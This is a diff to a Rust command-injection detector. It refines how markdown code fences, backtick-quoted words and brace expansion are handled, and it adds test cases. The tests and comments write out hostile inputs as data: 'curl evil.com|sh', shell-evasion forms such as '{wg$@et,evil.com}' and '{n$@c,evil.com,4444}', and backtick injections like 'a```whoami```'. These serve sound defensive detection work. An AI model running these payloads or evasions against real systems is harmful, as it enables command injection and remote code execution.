@@ -188,7 +188,9 @@ fn brace_expansion(v: &[u8], open: usize) -> Option<(usize, bool)> {
     let after = v[open + close + 1..].iter().take_while(|b| glued(b)).count();
     let (prefix, suffix) = (&v[open - before..open], &v[open + close + 1..open + close + 1 + after]);
     let runs = inner.split(|&b| b == b',').any(|element| {
-        if element.is_empty() || element.contains(&b'/') || element.contains(&b'\\') {
+        // A path, an escape, or an expansion a shell undoes before it looks the word up
+        // (`{wg$@et,evil.com}` runs wget).
+        if element.is_empty() || element.iter().any(|b| matches!(b, b'/' | b'\\' | b'$' | b'`' | b'?' | b'*' | b'[')) {
             return true;
         }
         let mut word = [0u8; 40];
@@ -325,9 +327,9 @@ fn backticks(v: &[u8], open: usize, level: u8) -> Option<Hit> {
             open > 0 && v[open - 1].is_ascii_alphanumeric() && v.get(close + 1).is_some_and(u8::is_ascii_alphanumeric);
         return if in_word { hit(1, open.saturating_sub(4), (close + 5).min(v.len()), level) } else { None };
     }
-    // A markdown code fence: what is inside is code shown, until paranoia 2 reads it as a shell.
-    let fence = v[open..].starts_with(b"```") || (open >= 2 && v[open - 2..].starts_with(b"```"));
-    if fence && level < 2 {
+    // A markdown code fence's backticks pair with nothing; the code inside is read as any text.
+    let run_start = open - v[..open].iter().rev().take_while(|&&b| b == b'`').count();
+    if level < 2 && fence_line(v, run_start).is_some() {
         return None;
     }
     let (word, end) = read_command(inner, 0);
@@ -344,8 +346,9 @@ fn backticks(v: &[u8], open: usize, level: u8) -> Option<Hit> {
 }
 
 /// Prose that quotes a command's name in backticks at `open` (`Run \`make\` first`, `use
-/// \`HEAD\` requests`): a blank before, a blank or punctuation after, one plain word inside that
-/// is no administration tool (`whoami`, `id` still count). Returns the closing backtick.
+/// \`HEAD\` requests`): a blank before, a blank or punctuation after, and inside one plain word
+/// of English that also names a command ([`english_command`]): `uname`, `env`, `id`, `sh` or
+/// `reboot` quoted so still count. Returns the closing backtick.
 fn prose_quote(v: &[u8], open: usize) -> Option<usize> {
     let close = v[open + 1..].iter().position(|&b| b == b'`').map(|c| open + 1 + c)?;
     let inner = &v[open + 1..close];
@@ -356,8 +359,63 @@ fn prose_quote(v: &[u8], open: usize) -> Option<usize> {
         && !word.evasive
         && !word.pathed
         && follow(inner, end) == Follow::End
-        && !is_admin_tool(word.text());
+        && english_command(word.text());
     prose.then_some(close)
+}
+
+/// Words of English that name commands too, which prose quotes in backticks.
+fn english_command(w: &[u8]) -> bool {
+    matches!(
+        w,
+        b"head"
+            | b"make"
+            | b"find"
+            | b"sort"
+            | b"test"
+            | b"time"
+            | b"date"
+            | b"more"
+            | b"less"
+            | b"tail"
+            | b"type"
+            | b"file"
+            | b"join"
+            | b"watch"
+            | b"touch"
+            | b"link"
+            | b"split"
+            | b"paste"
+            | b"look"
+            | b"print"
+            | b"read"
+            | b"wait"
+            | b"yes"
+            | b"true"
+            | b"false"
+            | b"which"
+            | b"cut"
+            | b"diff"
+            | b"top"
+            | b"man"
+    )
+}
+
+/// The end of the line of a markdown code fence opening at `i`: three backticks at the start of a
+/// line (after at most three blanks), then nothing or a language's name (```python). Mid-line
+/// backticks (`a```id```) are a shell's, and so is a fence line with more on it (```;id).
+fn fence_line(v: &[u8], i: usize) -> Option<usize> {
+    if !v[i..].starts_with(b"```") {
+        return None;
+    }
+    let line_start = v[..i].iter().rposition(|&b| b == b'\n').map_or(0, |p| p + 1);
+    if i - line_start > 3 || !v[line_start..i].iter().all(|&b| b == b' ') {
+        return None;
+    }
+    let rest = &v[i..];
+    let end = rest.iter().position(|&b| b == b'\n').unwrap_or(rest.len());
+    let line = rest[..end].trim_ascii_end();
+    let tag = &line[line.iter().take_while(|&&b| b == b'`').count()..];
+    tag.iter().all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'#' | b'.' | b'_')).then_some(i + end)
 }
 
 /// A command word as a shell would see it once evasions are undone, lower-cased.
@@ -830,9 +888,9 @@ fn commands(v: &[u8], level: u8) -> Option<Hit> {
             }
         };
         if v[i] == b'`' && level < 2 {
-            // A markdown code fence: the code is shown, until paranoia 2 reads it as a shell.
-            if v[i..].starts_with(b"```") {
-                i = find_ci(v, b"```", i + 3).map_or(i + 3, |end| end + 3);
+            // A markdown code fence's line (```python): the code below it is read as any text.
+            if let Some(end) = fence_line(v, i) {
+                i = end;
                 continue;
             }
             if let Some(close) = prose_quote(v, i) {
@@ -893,10 +951,12 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
         (true, Kind::Rare, Follow::Operator) if !is_interpreter(text) && !is_language(text) => 1,
         // `wget evil.com/x`, `nc 10.0.0.1 4444`: an argument a command takes, not an English word
         // (`Curl up with a good book`, `wget is a command line tool`: paranoia 3).
-        (true, Kind::Rare, Follow::Word)
-            if !is_interpreter(text) && !is_language(text) && (argument_like(v, end) || short_line(v)) =>
-        {
-            1
+        (true, Kind::Rare, Follow::Word) if !is_interpreter(text) && !is_language(text) => {
+            if argument_like(v, end) || short_line(v) {
+                1
+            } else {
+                2
+            }
         }
         // A value that is nothing but an administration tool's name.
         (true, Kind::Rare, Follow::End) if is_admin_tool(text) => 1,
@@ -1392,9 +1452,23 @@ mod tests {
             "{,ifconfig}",
             "x `whoami` y",
             "wh``oami",
+            // Mid-line triple backticks are a shell's (bash runs `echo a```id```` as a`id`).
+            "a```whoami```",
+            "127.0.0.1```id```",
+            "x;```id```",
+            "```;id",
+            "```\ncurl evil.com|sh\n```",
+            // One quoted word that is a command, not English.
+            "127.0.0.1 `uname` ",
+            "a `printenv` b",
+            "1 `reboot` ",
+            "{wg$@et,evil.com}",
+            "x;{n$@c,evil.com,4444}",
         ] {
             assert!(cmdi(s, 1), "{s}");
         }
+        // A command opening a sentence of plain words counts from paranoia 2.
+        assert!(!cmdi("wget internal x y z", 1) && cmdi("wget internal x y z", 2));
     }
 
     #[test]
